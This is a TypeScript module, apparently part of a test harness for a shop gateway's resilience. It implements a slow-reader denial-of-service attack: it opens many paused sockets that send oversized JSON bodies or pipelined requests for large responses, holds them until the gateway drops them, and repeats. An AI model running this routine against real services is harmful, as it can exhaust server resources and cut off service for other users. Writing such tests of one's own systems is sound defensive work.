import { type Attack, openSocket, type Target } from "../attack.ts";
import { untilLetGo } from "../held.ts";

/**
 * Many connections that ask for the largest answers, wrong bodies' too, and read nothing of them. They are held until the
 * gateway closes them, and then there are as many again.
 */
export const slowReaders: Attack = async (target, signal) => {
  let rounds = 0;
  while (!signal.aborted) {
    await hold(target);
    rounds++;
  }
  return `${rounds} times ${connections} connections, of which the gateway has let go each time`;
};

const connections = 100;
const body = `{"lines":[${"1,".repeat(30_000)}1]}`;

async function hold(target: Target): Promise<void> {
  const sockets = Array.from({ length: connections }, (_, index) => {
    const socket = openSocket(target);
    socket.pause();
    const head = (method: string, path: string, length: number) =>
      `${method} ${path} HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: ${length}\r\n\r\n`;
    socket.write(
      index % 2 === 0
        ? head("POST", "/v1/guest-carts", body.length) + body
        : head("GET", "/v1/products?pageSize=1000", 0) + head("GET", "/openapi.json", 0).repeat(10),
    );
    return socket;
  });
  await Promise.all(
    sockets.map(
      (socket) =>
        new Promise<void>((resolve) => {
          socket.once("connect", () => resolve());
          socket.once("close", () => resolve());
        }),
    ),
  );
  await untilLetGo(target);
  for (const socket of sockets) {
    socket.destroy();
  }
}
